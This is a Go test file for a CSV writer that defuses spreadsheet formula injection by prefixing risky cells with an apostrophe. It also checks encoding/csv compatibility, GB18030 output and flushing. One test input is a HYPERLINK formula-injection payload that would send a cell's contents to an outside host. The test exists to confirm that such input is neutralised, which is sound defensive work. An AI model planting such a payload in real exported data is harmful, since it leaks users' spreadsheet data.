package csvout

import (
	"bytes"
	"encoding/csv"
	"math/rand/v2"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":      "",
		"north": "north",
		"-12.5": "-12.5", "+3": "+3", "-5%": "-5%", "-1e6": "-1e6", "-.5": "-.5",
		`=HYPERLINK("http://x/?leak="&C2,"x")`: `'=HYPERLINK("http://x/?leak="&C2,"x")`,
		"+1+2":                                 "'+1+2", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"-": "'-", "-.": "'-.", "-1e": "'-1e", "-inf": "'-inf", "-0x10": "'-0x10", "-1,000": "'-1,000",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	w := New(Options{})
	if err := w.WriteAll([][]string{{"id", "=1+1"}, {"-3", "@x"}}); err != nil {
		t.Fatal(err)
	}
	b, err := w.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := string(b), "\ufeffid,'=1+1\r\n-3,'@x\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	g := New(Options{GB18030: true})
	_ = g.Write([]string{"合计"})
	if b, _ := g.Bytes(); strings.HasPrefix(string(b), "\ufeff") || len(b) != 6 {
		t.Errorf("GB18030: %q", b)
	}
}

// TestWriterAsEncodingCSV: the rows written are byte for byte what
// encoding/csv writes (CRLF line ends) of the same safe cells, for
// awkward and random fields: quotes, commas, line ends, leading spaces,
// `\.`, Chinese text, empty fields and rows.
func TestWriterAsEncodingCSV(t *testing.T) {
	alphabet := []string{"a", "中", ",", `"`, "\r", "\n", " ", "\t", "\u3000", "=", "-", "1", ".", `\`, "'", "\xff"}
	r := rand.New(rand.NewPCG(20, 7))
	rows := [][]string{{}, {""}, {`\.`}, {" x", "x ", "\r\n", "a\rb"}, {"=1+1", "-5%", "@x", "中文,\"引号\""}}
	rows = append(rows, randomRows(r, alphabet, 3000, 5, 6)...)
	var want bytes.Buffer
	want.WriteString("\ufeff")
	cw := csv.NewWriter(&want)
	cw.UseCRLF = true
	w := New(Options{})
	for _, row := range rows {
		safe := make([]string, len(row))
		for i, v := range row {
			safe[i] = Cell(v)
		}
		if err := cw.Write(safe); err != nil {
			t.Fatal(err)
		}
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	cw.Flush()
	got, err := w.Bytes()
	if err != nil || !bytes.Equal(got, want.Bytes()) {
		t.Fatalf("differs from encoding/csv (%v):\n%q\n%q", err, clip(got), clip(want.Bytes()))
	}
}

// TestCellByCell: a row written by Text, Number and EndRow has the bytes
// Write gives it, whatever its cells; a plain number is written as it is
// and anything else Number is given as Text writes it.
func TestCellByCell(t *testing.T) {
	alphabet := []string{"1", "0", "-", ".", "9", "中", ",", `"`, "\n", " ", "=", "+", "e", "%"}
	r := rand.New(rand.NewPCG(3, 11))
	rows := [][]string{{}, {""}, {"-1.5", "12", "-0", "1.", ".5", "-", "1.2.3", "+3", "--1"}}
	rows = append(rows, randomRows(r, alphabet, 3000, 6, 5)...)
	whole, cells := New(Options{}), New(Options{})
	for _, row := range rows {
		if err := whole.Write(row); err != nil {
			t.Fatal(err)
		}
		for _, v := range row {
			if r.IntN(2) == 0 {
				cells.Number([]byte(v))
			} else {
				cells.Text(v)
			}
		}
		cells.EndRow()
	}
	want, _ := whole.Bytes()
	got, _ := cells.Bytes()
	if !bytes.Equal(got, want) {
		t.Fatalf("cell by cell differs from Write:\n%q\n%q", clip(got), clip(want))
	}
	for _, c := range []struct {
		in    string
		plain bool
	}{{"12", true}, {"-1.50", true}, {"0", true}, {"-", false}, {"1.", false}, {".5", false}, {"1.2.3", false}, {"+3", false}, {"", false}, {"1e5", false}} {
		if got := plainNumber([]byte(c.in)); got != c.plain {
			t.Errorf("plainNumber(%q) = %v, want %v", c.in, got, c.plain)
		}
	}
}

// TestFlushInPieces: a file flushed a piece at a time between rows is
// the file written whole, in UTF-8 and in GB18030.
func TestFlushInPieces(t *testing.T) {
	r := rand.New(rand.NewPCG(4, 2))
	rows := randomRows(r, []string{"a", "中文", "街道", ",", `"`, "1", "-", " "}, 2000, 5, 4)
	for _, opts := range []Options{{}, {GB18030: true}, {NoBOM: true}} {
		whole, pieces := New(opts), New(opts)
		var got bytes.Buffer
		for _, row := range rows {
			if err := whole.Write(row); err != nil {
				t.Fatal(err)
			}
			if err := pieces.Write(row); err != nil {
				t.Fatal(err)
			}
			if r.IntN(50) == 0 {
				if err := pieces.Flush(&got); err != nil || pieces.Len() != 0 {
					t.Fatalf("flush: %v, %d left", err, pieces.Len())
				}
			}
		}
		if _, err := pieces.WriteTo(&got); err != nil {
			t.Fatal(err)
		}
		want, err := whole.Bytes()
		if err != nil || !bytes.Equal(got.Bytes(), want) {
			t.Fatalf("%+v: pieces differ from the whole file (%v)", opts, err)
		}
	}
}

// randomRows are n rows of fewer than cells cells, each of fewer than
// pieces pieces of the alphabet.
func randomRows(r *rand.Rand, alphabet []string, n, cells, pieces int) [][]string {
	rows := make([][]string, n)
	for k := range rows {
		rows[k] = make([]string, r.IntN(cells))
		for i := range rows[k] {
			var b strings.Builder
			for range r.IntN(pieces) {
				b.WriteString(alphabet[r.IntN(len(alphabet))])
			}
			rows[k][i] = b.String()
		}
	}
	return rows
}

// clip is the start of b, for a message.
func clip(b []byte) []byte { return b[:min(len(b), 300)] }
